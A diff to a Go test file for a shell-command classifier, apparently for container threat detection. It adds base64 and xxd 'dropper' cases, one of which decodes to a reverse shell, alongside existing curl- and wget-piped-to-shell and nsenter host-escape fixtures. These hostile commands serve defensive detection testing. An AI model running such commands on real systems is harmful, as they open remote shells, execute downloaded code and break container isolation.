@@ -51,6 +51,9 @@ func TestClassifyCommand(t *testing.T) {
 		{"command substitution", []string{"sh", "-c", `sh -c "$(curl -fsSL https://raw.example/install.sh)"`}, []string{CmdDownloadExec, CmdToolTransfer}},
 		{"busybox wget", []string{"sh", "-c", "busybox wget -O - http://203.0.113.7/x | sh"}, []string{CmdDownloadExec, CmdToolTransfer}},
 
+		{"base64 dropper", []string{"sh", "-c", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDQ0IDA+JjE= | base64 -d | bash"}, []string{CmdDecodeExec}},
+		{"xxd dropper", []string{"sh", "-c", "xxd -r -p payload.hex | sh"}, []string{CmdDecodeExec}},
+
 		// Escapes to the node.
 		{"nsenter pid 1", []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"}, []string{CmdEscapeToHost}},
 		{"nsenter -t 1", []string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"}, []string{CmdEscapeToHost}},
@@ -107,6 +110,7 @@ func TestClassifyCommand(t *testing.T) {
 		{"port scan of a dependency", []string{"nc", "-zv", "db", "5432"}, nil},
 		{"ps", []string{"ps", "aux"}, nil},
 		{"ls", []string{"sh", "-c", "ls /app"}, nil},
+		{"decode to a file", []string{"sh", "-c", "echo $CERT | base64 -d > /etc/tls/tls.crt"}, nil},
 		{"or-else is not a pipe", []string{"sh", "-c", "curl -sf http://localhost/health || sh /recover.sh"}, nil},
 		{"empty", nil, nil},
 	}
